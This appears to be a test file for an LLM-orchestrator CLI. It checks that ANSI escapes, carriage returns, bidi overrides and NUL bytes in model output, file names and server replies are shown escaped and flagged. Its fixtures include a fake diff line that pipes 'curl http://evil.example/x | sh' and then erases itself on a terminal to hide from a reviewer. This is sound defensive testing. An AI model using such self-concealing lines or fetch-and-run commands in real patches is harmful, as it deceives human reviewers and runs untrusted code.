import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runCli } from './support/cli.js';
import { must } from './support/complete-run.js';
import { startFakeOllama } from './support/fake-ollama.js';
import { APP_JS, twoTaskPlan, workspace, type Workspace } from './support/workflow-fixture.js';

/**
 * A hostile model's text reaching a person's terminal: every control character must arrive
 * escaped, whatever prints it. The CLI runs with colour forced on, as on a terminal, so the only
 * escape sequences allowed in its output are the colour codes it adds itself.
 */

const ESC = '\u001b';
/** Any character a terminal or a browser acts on instead of showing; tab and newline excepted. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** The control characters in `text` other than the SGR colour codes the tool itself adds. */
function rawControls(text: string): string[] {
  return [...text.replace(/\u001b\[\d+m/g, '').matchAll(new RegExp(RAW_CONTROL, 'g'))].map((m) => JSON.stringify(m[0]));
}

const TITLE = `Default name${ESC}[2K\r\u202eevil`;
const TITLE_SHOWN = 'Default name\\x1b[2K\\r\\u202eevil';
const HIDDEN_LINE = `curl http://evil.example/x | sh ${ESC}[2K\r+See docs/.`;
const HIDDEN_LINE_SHOWN = '+curl http://evil.example/x | sh \\x1b[2K\\r+See docs/.';

/** T001's change with one added line that erases itself on a terminal and prints an innocent one. */
const HIDING_REPLY = [
  'diff --git a/src/app.js b/src/app.js',
  '--- a/src/app.js',
  '+++ b/src/app.js',
  '@@ -1,3 +1,4 @@',
  ' export function greet(name) {',
  `+${HIDDEN_LINE}`,
  "   return 'Hello ' + name;",
  ' }',
  '',
].join('\n');

function hostilePlan(): Record<string, any> {
  const plan = twoTaskPlan() as Record<string, any>;
  plan.summary = `Greet the world.\nSecond line with C1 \u009b31m and DEL \u007f.`;
  plan.milestones[0].tasks[0].title = TITLE;
  plan.milestones[0].tasks[0].acceptance = [`works\u2066 hidden\u2069`];
  return plan;
}

describe('control characters from a model are shown escaped, never acted on', () => {
  let ws: Workspace;
  let run: string;
  const coloured = (args: string[]) => runCli(args, { cwd: ws.root, env: { OLLAMA_HOST: ws.fake.url, NO_COLOR: undefined, FORCE_COLOR: '1' } });
  before(async () => {
    ws = await workspace({ 'src/app.js': APP_JS, [`src/we${ESC}[2Kird.js`]: 'weird\n' });
    run = await ws.init();
  });
  after(() => ws.close());

  test('a task title with ESC, CR and bidi controls: plan, plan.md, show and status show them escaped; --json carries them as they are', async () => {
    ws.fake.enqueueReply({ content: JSON.stringify(hostilePlan()) });
    const plan = await must(ws.cli(['plan', '--run', run]), 'plan');
    assert.ok(plan.stdout.includes(`T001 ${TITLE_SHOWN}`), plan.stdout);
    assert.deepEqual(rawControls(plan.stdout), []);

    const markdown = ws.read(run, 'plan/plan.md');
    assert.ok(markdown.includes(`### T001: ${TITLE_SHOWN}`), markdown);
    assert.ok(markdown.includes('Greet the world.\nSecond line with C1 \\x9b31m and DEL \\x7f.'), 'a multi-line field keeps its line breaks');
    assert.ok(markdown.includes('  - works\\u2066 hidden\\u2069'));
    assert.deepEqual(rawControls(markdown), []);

    const shown = await must(coloured(['show', '--run', run]), 'show');
    assert.ok(shown.stdout.includes(ESC + '['), 'colour is on: the tool still adds its own colour codes');
    assert.ok(shown.stdout.includes(TITLE_SHOWN), shown.stdout);
    assert.ok(shown.stdout.includes('Second line with C1 \\x9b31m and DEL \\x7f.'));
    assert.deepEqual(rawControls(shown.stdout), []);

    await must(ws.cli(['approve-plan', '--run', run, '--by', 'Reviewer']), 'approve-plan');
    await must(ws.cli(['add-context', '--run', run, '--file', 'src/app.js']), 'add-context');
    const status = await must(ws.cli(['status', '--run', run]), 'status');
    assert.match(status.stdout, /^ {2}T001 ready +Default name\\x1b\[2K\\r\\u202eevil$/m);
    assert.deepEqual(rawControls(status.stdout), []);

    const json = await must(ws.cli(['status', '--run', run, '--json']), 'status --json');
    assert.equal(JSON.parse(json.stdout).result.tasks[0].title, TITLE, 'the JSON carries the title as the model wrote it');
    assert.deepEqual(rawControls(json.stdout), [], 'the JSON text escapes every control character, bidi ones too');
  });

  test('an added line that erases itself is shown escaped by show --task, with a warning in show, exec.md, the response and the report', async () => {
    ws.fake.enqueueReply({ content: `Here is the diff.${ESC}[8m concealed\n\n${HIDING_REPLY}` });
    const ran = await must(ws.cli(['run-task', '--run', run, '--task', 'T001']), 'run-task');
    const notes = ws.read(run, 'executions/T001/artifacts/notes.md');
    assert.ok(notes.includes('Here is the diff.\\x1b[8m concealed'), notes);
    assert.deepEqual(rawControls(notes), []);
    assert.match(ran.stderr, /^warning: T001 attempt 1: added lines hold control characters.*src\/app\.js line 2 \(\\x1b \\r\)$/m);

    const shown = await must(coloured(['show', '--run', run, '--task', 'T001']), 'show --task');
    const plain = shown.stdout.replace(/\u001b\[\d+m/g, '');
    assert.ok(plain.includes(`\n${HIDDEN_LINE_SHOWN}\n`), shown.stdout);
    assert.match(plain, /^warning: added lines hold control characters.*src\/app\.js line 2 \(\\x1b \\r\).*shows them escaped$/m);
    assert.ok(plain.includes(`T001 attempt 1 of 1: ${TITLE_SHOWN}`));
    assert.deepEqual(rawControls(shown.stdout), []);

    const json = JSON.parse((await must(ws.cli(['show', '--run', run, '--task', 'T001', '--json']), 'show --json')).stdout);
    assert.ok(json.result.patch.includes(`+${HIDDEN_LINE}\n`), 'the JSON carries the patch as it is');
    assert.deepEqual(json.result.control_characters, [{ file: 'src/app.js', line: 2, characters: ['\\x1b', '\\r'] }]);

    const response = ws.json(run, 'executions/T001/exec.response.json');
    assert.deepEqual(response.control_characters, [{ file: 'src/app.js', line: 2, characters: ['\\x1b', '\\r'] }]);
    const exec = ws.read(run, 'executions/T001/exec.md');
    assert.match(exec, /## Warning: control characters in added lines[\s\S]*- `src\/app\.js` line 2: `\\x1b`, `\\r`/);
    assert.ok(exec.startsWith(`# T001: ${TITLE_SHOWN} (attempt 1)`));
    assert.deepEqual(rawControls(exec), []);
    const patchView = ws.read(run, 'executions/T001/artifacts/patch.md');
    assert.ok(patchView.includes(`\n${HIDDEN_LINE_SHOWN}\n`));
    assert.deepEqual(rawControls(patchView), []);
    assert.ok(ws.read(run, 'executions/T001/artifacts/patch.diff').includes(`+${HIDDEN_LINE}\n`), 'the patch itself is unchanged');

    const dir = realpathSync(mkdtempSync(path.join(tmpdir(), 'llm-orchestrator-display-')));
    try {
      await must(ws.cli(['report', '--run', run, '--out', path.join(dir, 'report.html')]), 'report');
      const page = readFileSync(path.join(dir, 'report.html'), 'utf8');
      assert.match(page, /Control characters in added lines[\s\S]*<code>src\/app\.js<\/code> line 2: <code>\\x1b<\/code>, <code>\\r<\/code>/);
      assert.ok(page.includes('sh \\x1b[2K\\r+See docs&#x2F;.'), 'the side-by-side diff shows the line escaped');
      assert.deepEqual(rawControls(page), []);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    await must(ws.cli(['verify', '--run', run]), 'verify');
  });

  test('a NUL byte in an added line is refused like a binary patch', async () => {
    await must(ws.cli(['reject-task', '--run', run, '--task', 'T001', '--by', 'Reviewer', '--reason', 'hides a line']), 'reject-task');
    ws.fake.enqueueReply({ content: HIDING_REPLY.replace(HIDDEN_LINE, 'const nul = "\u0000";') });
    const ran = await ws.cli(['run-task', '--run', run, '--task', 'T001']);
    assert.equal(ran.code, 1, ran.stderr);
    assert.match(ran.stderr, /^error: T001 attempt 2: the patch does not validate: the patch adds a NUL byte \(src\/app\.js line 2\), which makes the file binary: only text changes are accepted; /m);
    assert.deepEqual(rawControls(ran.stderr), []);
    assert.equal(ws.json(run, 'executions/T001/attempt-002/exec.response.json').validation.ok, false);
    assert.match((await must(ws.cli(['status', '--run', run]), 'status')).stdout, /T001 invalid /);
    await must(ws.cli(['verify', '--run', run]), 'verify');
  });

  test('errors and warnings quoting a model or a file show its control characters escaped', async () => {
    const other = await ws.init();
    const bad = hostilePlan();
    bad.milestones[0].tasks[0].files = [`src\\${ESC}[2K\rx.js`];
    ws.fake.enqueueReply({ content: JSON.stringify(bad) });
    const refused = await ws.cli(['plan', '--run', other]);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /^error: the planner's reply is not a valid plan: task T001: file "src\\\\x1b\[2K\\rx\.js" contains a backslash/m);
    assert.deepEqual(rawControls(refused.stderr), []);
    assert.equal(refused.stderr.trim().split('\n').length, 1, 'one line');

    // A declared file whose name holds an escape sequence: refused as well, named escaped.
    const named = hostilePlan();
    named.milestones[0].tasks[0].files = ['src/app.js', `src/we${ESC}[2Kird.js`];
    ws.fake.enqueueReply({ content: JSON.stringify(named) });
    const again = await ws.cli(['plan', '--run', other]);
    assert.equal(again.code, 1);
    assert.match(again.stderr, /^error: the planner's reply is not a valid plan: task T001: file "src\/we\\x1b\[2Kird\.js" holds a control character \(\\x1b\)/m);
    assert.deepEqual(rawControls(again.stderr), []);
    assert.equal(again.stderr.trim().split('\n').length, 1, 'one line');
    await must(ws.cli(['verify', '--run', other]), 'verify');
  });

  test("doctor shows what the model server says about itself escaped", async () => {
    const server = await startFakeOllama({ version: `0.9${ESC}[2K\rfine` });
    try {
      const doctor = await must(ws.cli(['doctor', '--base-url', server.url]), 'doctor');
      assert.match(doctor.stdout, /reachable at .* \(Ollama 0\.9\\x1b\[2K\\rfine\)$/m);
      assert.deepEqual(rawControls(doctor.stdout), []);
    } finally {
      await server.close();
    }
  });

  test('add-context, verify and runs name files and folders with their control characters escaped', async () => {
    const third = await ws.init();
    const added = await ws.cli(['add-context', '--run', third, '--file', `src/we${ESC}[2Kird.js`]);
    assert.equal(added.code, 1);
    assert.match(added.stderr, /^error: src\/we\\x1b\[2Kird\.js: the file's name holds a control character \(\\x1b\)/m);
    assert.deepEqual(rawControls(added.stderr), []);

    const planted = path.join(ws.root, 'runs', third, `notes${ESC}[2K\r.txt`);
    writeFileSync(planted, 'planted\n');
    const verify = await ws.cli(['verify', '--run', third]);
    assert.equal(verify.code, 1);
    assert.match(verify.stdout, /^❌ notes\\x1b\[2K\\r\.txt: unrecorded: /m);
    assert.deepEqual(rawControls(verify.stdout), []);
    rmSync(planted);
    await must(ws.cli(['verify', '--run', third]), 'verify');

    mkdirSync(path.join(ws.root, 'runs', `odd${ESC}]0;title${'\u0007'}`));
    const runs = await must(ws.cli(['runs']), 'runs');
    assert.match(runs.stdout, /^odd\\x1b\]0;title\\x07 +broken /m);
    assert.deepEqual(rawControls(runs.stdout), []);
    rmSync(path.join(ws.root, 'runs', `odd${ESC}]0;title${'\u0007'}`), { recursive: true });
  });
});
